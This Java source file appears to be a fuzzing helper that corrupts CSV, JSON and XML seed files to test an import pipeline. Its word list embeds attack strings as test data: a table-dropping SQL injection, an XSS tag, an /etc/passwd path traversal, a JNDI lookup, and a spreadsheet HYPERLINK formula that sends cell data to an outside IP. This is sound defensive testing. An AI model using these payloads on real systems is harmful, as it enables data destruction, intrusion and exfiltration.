package org.prongsai.command.feed.fuzz;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.regex.Pattern;

/** Spoils a file as nets, disks, programs and people do. */
final class Mutation {
    private static final List<String> WORDS = List.of(
            "\0",
            "\u0001\u0002\u001b[31m\u007f\u0085\u2028",
            "\\u0000",
            "\\\\u0000\\ud800",
            "\ud800",
            "\udfff\ud800",
            "\u202e\ufeff\u200b\u00ad",
            "\"",
            "\"\"",
            "\"\r\n\"",
            "'=",
            "=HYPERLINK(\"http://203.0.113.1/\"&A1)",
            "@SUM(1)",
            "-1",
            "+1e999999999",
            "1e-999999999",
            "9".repeat(400),
            "0x10",
            "NaN",
            "๙๙๙๙๙๙๙๙๙๙๙๙๙",
            "4,0",
            "9999-12-31T23:59:59.999999999Z",
            "31/2/2566",
            "1/1/2023",
            "+999999999-01-01",
            "1980-01-01 00:00:00",
            "sep=;\r\n",
            "\u0e40\u0e40\u0e4d\u0e48\u0e32",
            "i1,i1,i1",
            "respondentKey",
            "{\"ImportId\":\"x\"}",
            "'; drop table log.domain_event_entry; --",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "${jndi:ldap://127.0.0.1/a}",
            "planted.somchai@example.org",
            "1101700230708",
            "0812345699");
    private static final List<String> CHARSETS =
            List.of("x-windows-874", "UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "ISO-8859-1", "UTF-8");
    private static final List<String> MARKS = List.of("\ufeff", "\ufeff\ufeff", "\ufffe", "\u0000\ufeff", "\n\n\ufeff");
    private static final Pattern VALUE = Pattern.compile("(?<=[:,\\[;\t] ?)(\"[^\"]*\"|[^\"{}\\[\\],;\t\r\n]+)");
    private static final int RARELY = 1_500;

    private final SplittableRandom random;
    private byte[] file;

    private Mutation(SplittableRandom random, byte[] file) {
        this.random = random;
        this.file = file;
    }

    /** A text file, spoilt in one way or two. */
    static byte[] ofText(SplittableRandom random, byte[] seed, boolean isJson) {
        var mutation = new Mutation(random, seed.clone());
        for (int times = random.nextInt(1, 3); times > 0; times--) {
            mutation.mutateText(isJson);
        }
        return mutation.file;
    }

    /** Any bytes, spoilt once. */
    static byte[] ofBytes(SplittableRandom random, byte[] seed) {
        var mutation = new Mutation(random, seed.clone());
        mutation.mutateBytes();
        return mutation.file;
    }

    private void mutateText(boolean isJson) {
        if (random.nextInt(RARELY) == 0) {
            replaceValue(quoted("ก".repeat((10 << 20) / 3)));
            return;
        }
        switch (random.nextInt(12)) {
            case 0, 1 -> mutateBytes();
            case 2, 3, 4 -> replaceValue(word());
            case 5 -> replaceValue(quoted(word()));
            case 6 -> insert(word());
            case 7 -> file = text().getBytes(Charset.forName(one(CHARSETS)));
            case 8 -> file = Seeds.utf8(one(MARKS) + text());
            case 9 ->
                file = Seeds.utf8(text().replace(
                                one(List.of(",", ";", "\"", "\r\n", ":")),
                                one(List.of("\t", ";", "", "\r", "|", "''", ","))));
            case 10 -> replaceValue(isJson ? nested() : manyCells());
            default -> file = Seeds.utf8(headerGames(text()));
        }
    }

    private void mutateBytes() {
        switch (random.nextInt(4)) {
            case 0 -> flip();
            case 1 -> file = Arrays.copyOf(file, random.nextInt(file.length + 1));
            case 2 -> duplicate();
            default -> file = joined(file, random.nextInt(file.length + 1), randomBytes(random.nextInt(64)));
        }
    }

    private void flip() {
        for (int flips = random.nextInt(1, 9); flips > 0 && file.length > 0; flips--) {
            file[random.nextInt(file.length)] = (byte) random.nextInt(256);
        }
    }

    /** A piece of it once more, anywhere. */
    private void duplicate() {
        int from = random.nextInt(file.length + 1);
        int to = Math.min(file.length, from + random.nextInt(2_000));
        file = joined(file, random.nextInt(file.length + 1), Arrays.copyOfRange(file, from, to));
    }

    private static byte[] joined(byte[] file, int at, byte[] piece) {
        var joined = new byte[file.length + piece.length];
        System.arraycopy(file, 0, joined, 0, at);
        System.arraycopy(piece, 0, joined, at, piece.length);
        System.arraycopy(file, at, joined, at + piece.length, file.length - at);
        return joined;
    }

    private void insert(String word) {
        file = joined(file, random.nextInt(file.length + 1), Seeds.utf8(word));
    }

    private void replaceValue(String other) {
        var text = text();
        var found = VALUE.matcher(text).results().limit(300).toList();
        if (!found.isEmpty()) {
            var one = found.get(random.nextInt(found.size()));
            file = Seeds.utf8(text.substring(0, one.start()) + other + text.substring(one.end()));
        }
    }

    private String nested() {
        int depth = random.nextInt(1, 3_000);
        return switch (random.nextInt(4)) {
            case 0 -> "[".repeat(depth) + "]".repeat(depth);
            case 1 -> "[".repeat(depth);
            case 2 -> "{\"data\": ".repeat(depth) + "1" + "}".repeat(depth);
            default -> manyFields();
        };
    }

    private String manyFields() {
        var fields = new StringBuilder("{");
        for (int field = random.nextInt(20) == 0 ? 2_500 : random.nextInt(1, 60); field > 0; field--) {
            fields.append("\"i").append(random.nextInt(10_000)).append("\": 1, ");
        }
        return fields.append("\"i1\": 2}").toString();
    }

    private String manyCells() {
        return one(List.of(",", ";", ",i", ",x\"")).repeat(random.nextInt(20) == 0 ? 2_001 : random.nextInt(1, 60));
    }

    private String headerGames(String text) {
        int end = text.indexOf('\n');
        var header = end < 0 ? text : text.substring(0, end);
        var rest = end < 0 ? "" : text.substring(end);
        return switch (random.nextInt(5)) {
            case 0 -> header;
            case 1 -> header.strip() + "," + header + rest;
            case 2 -> rest;
            case 3 -> header.toUpperCase(Locale.ROOT) + rest;
            default -> header + rest + rest + rest;
        };
    }

    private String word() {
        return one(WORDS);
    }

    private static String quoted(String word) {
        return "\"" + word.replace("\"", "\\\"") + "\"";
    }

    private <T> T one(List<T> many) {
        return many.get(random.nextInt(many.size()));
    }

    private byte[] randomBytes(int count) {
        var bytes = new byte[count];
        random.nextBytes(bytes);
        return bytes;
    }

    private String text() {
        return new String(file, StandardCharsets.UTF_8);
    }

    /** A word, as the content of XML. */
    static String xmlWord(SplittableRandom random) {
        return WORDS.get(random.nextInt(WORDS.size())).replace("&", "&amp;").replace("<", "&lt;");
    }
}
